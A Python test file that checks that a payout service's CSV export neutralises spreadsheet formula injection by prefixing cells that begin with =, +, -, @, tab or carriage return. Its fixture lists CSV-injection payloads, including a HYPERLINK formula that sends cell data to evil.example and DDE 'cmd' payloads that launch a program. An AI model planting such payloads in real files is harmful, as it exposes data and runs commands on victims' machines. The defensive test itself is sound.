"""Payout CSV: names and handles that start like a spreadsheet formula are neutralised."""

import csv
import io

from coordinator_service.ledger.payouts import compute_payout, payout_csv
from tests.trust.conftest import Seeder, at

HOSTILE = {
    "eq": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


async def test_formula_cells_are_prefixed_and_plain_ones_kept(sessions) -> None:
    async with sessions() as session:
        seed = Seeder(session)
        main = await seed.stream("main", pool_per_hour=3600)
        await seed.live(main, (0, 3600))
        for index, (node_id, text) in enumerate(HOSTILE.items()):
            relay = f"http://198.51.100.{index + 1}:8090"  # one share per address: distinct
            await seed.node(node_id, relay=relay, display_name=text[:64], payout_handle=text)
            await seed.up(node_id, main, (0, 3600))
        await seed.node("plain", display_name="Plain Name", payout_handle="plain@example.org")
        await seed.up("plain", main, (0, 3600))
        view = await compute_payout(session, at(0), at(3600), "main", now=at(7200))
    rows = list(csv.DictReader(io.StringIO(payout_csv(view))))
    by_node = {row["node_id"]: row for row in rows}
    for node_id, text in HOSTILE.items():
        written = "'" + text.replace("\r", " ")  # a CR inside would split the row
        assert by_node[node_id]["display_name"] == written[:65], node_id
        assert by_node[node_id]["payout_handle"] == written, node_id
    assert len(rows) == len(HOSTILE) + 1
    assert by_node["plain"]["display_name"] == "Plain Name"
    assert by_node["plain"]["payout_handle"] == "plain@example.org"
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
